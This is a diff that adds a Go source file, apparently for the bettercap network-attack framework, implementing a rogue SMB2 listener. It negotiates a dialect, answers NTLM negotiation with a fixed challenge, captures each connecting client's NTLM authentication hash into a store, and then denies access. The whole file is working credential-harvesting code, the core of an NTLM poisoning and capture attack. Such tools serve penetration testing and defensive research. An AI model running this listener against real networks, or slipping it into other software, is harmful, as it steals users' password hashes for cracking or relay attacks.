@@ -0,0 +1,196 @@
+package modules
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/binary"
+	"errors"
+	"io"
+	"net"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+)
+
+const smbTimeout = 30 * time.Second
+
+// dialects we can negotiate, by preference
+var smbDialects = []uint16{0x0210, 0x0202, 0x0302, 0x0300}
+
+// responderSMB is an SMB2 server asking every client for its NTLM
+// credentials, then denying it the access.
+type responderSMB struct {
+	responder *NetResponder
+	listener  net.Listener
+	guid      []byte
+}
+
+// smbSession is the state of an SMB connection.
+type smbSession struct {
+	client string
+	id     uint64
+}
+
+func newResponderSMB(r *NetResponder, address string) (*responderSMB, error) {
+	listener, err := net.Listen("tcp", address)
+	if err != nil {
+		return nil, err
+	}
+
+	s := &responderSMB{
+		responder: r,
+		listener:  listener,
+		guid:      make([]byte, 16),
+	}
+	rand.Read(s.guid)
+
+	go func() {
+		log.Info("[%s] SMB listener started on %s", core.Green(r.Name()), address)
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			go s.serve(conn)
+		}
+	}()
+
+	return s, nil
+}
+
+// readSMBMessage reads a message framed by a NetBIOS session header.
+func readSMBMessage(conn io.Reader) ([]byte, error) {
+	header := make([]byte, 4)
+	if _, err := io.ReadFull(conn, header); err != nil {
+		return nil, err
+	}
+
+	size := int(binary.BigEndian.Uint32(header) & 0x00ffffff)
+	if header[0] != 0x00 || size > 0xffff {
+		return nil, errors.New("Unexpected NetBIOS session message.")
+	}
+
+	msg := make([]byte, size)
+	if _, err := io.ReadFull(conn, msg); err != nil {
+		return nil, err
+	}
+	return msg, nil
+}
+
+func writeSMBMessage(conn io.Writer, msg []byte) error {
+	header := make([]byte, 4)
+	binary.BigEndian.PutUint32(header, uint32(len(msg)))
+	_, err := conn.Write(append(header, msg...))
+	return err
+}
+
+func selectSMBDialect(offered []uint16) (uint16, bool) {
+	for _, dialect := range smbDialects {
+		for _, o := range offered {
+			if o == dialect {
+				return dialect, true
+			}
+		}
+	}
+	return 0, false
+}
+
+// handle returns the reply to msg, whether the conversation is over or
+// an error if it went wrong.
+func (s *responderSMB) handle(sess *smbSession, msg []byte) ([]byte, bool, error) {
+	if packets.IsSMB1(msg) {
+		// clients supporting SMB2 advertise it in the SMB1 negotiation
+		if !bytes.Contains(msg, []byte("SMB 2.")) {
+			return nil, true, errors.New("SMB1 only client.")
+		}
+		return packets.NewSMB2NegotiateResponse(&packets.SMB2Header{}, packets.SMB2DialectWildcard, s.guid), false, nil
+	}
+
+	req, err := packets.ParseSMB2Header(msg)
+	if err != nil {
+		return nil, true, err
+	}
+
+	switch req.Command {
+	case packets.SMB2Negotiate:
+		offered, err := packets.SMB2Dialects(msg)
+		if err != nil {
+			return nil, true, err
+		}
+		dialect, found := selectSMBDialect(offered)
+		if !found {
+			return nil, true, errors.New("No supported SMB2 dialect offered.")
+		}
+		return packets.NewSMB2NegotiateResponse(req, dialect, s.guid), false, nil
+
+	case packets.SMB2SessionSetup:
+		buffer, err := packets.SMB2SecurityBuffer(msg)
+		if err != nil {
+			return nil, true, err
+		}
+
+		ntlm := ntlmMessage(buffer)
+		switch packets.NTLMMessageType(ntlm) {
+		case packets.NTLMNegotiate:
+			req.SessionID = sess.id
+			token := s.responder.ntlmChallenge
+			if !bytes.HasPrefix(buffer, []byte("NTLMSSP\x00")) {
+				token = packets.NewSPNEGOChallenge(token)
+			}
+			return packets.NewSMB2SessionSetupResponse(req, packets.SMB2StatusMoreProcessingRequired, token), false, nil
+
+		case packets.NTLMAuthenticate:
+			hash, err := parseResponderHash("smb", sess.client, s.responder.ntlmChallenge, ntlm)
+			if err != nil {
+				return nil, true, err
+			}
+			s.responder.hashes.Add(s.responder.Session, hash)
+			return packets.NewSMB2ErrorResponse(req, packets.SMB2StatusAccessDenied), true, nil
+		}
+	}
+
+	return packets.NewSMB2ErrorResponse(req, packets.SMB2StatusAccessDenied), true, nil
+}
+
+func (s *responderSMB) serve(conn net.Conn) {
+	defer conn.Close()
+
+	sess := &smbSession{
+		client: conn.RemoteAddr().String(),
+	}
+	if host, _, err := net.SplitHostPort(sess.client); err == nil {
+		sess.client = host
+	}
+
+	id := make([]byte, 8)
+	rand.Read(id)
+	sess.id = binary.LittleEndian.Uint64(id) | 1
+
+	for {
+		conn.SetDeadline(time.Now().Add(smbTimeout))
+
+		msg, err := readSMBMessage(conn)
+		if err != nil {
+			return
+		}
+
+		reply, done, err := s.handle(sess, msg)
+		if err != nil {
+			log.Debug("[%s] SMB session with %s: %s", s.responder.Name(), sess.client, err)
+		}
+		if reply != nil {
+			if err := writeSMBMessage(conn, reply); err != nil {
+				return
+			}
+		}
+		if done {
+			return
+		}
+	}
+}
+
+func (s *responderSMB) Close() {
+	s.listener.Close()
+}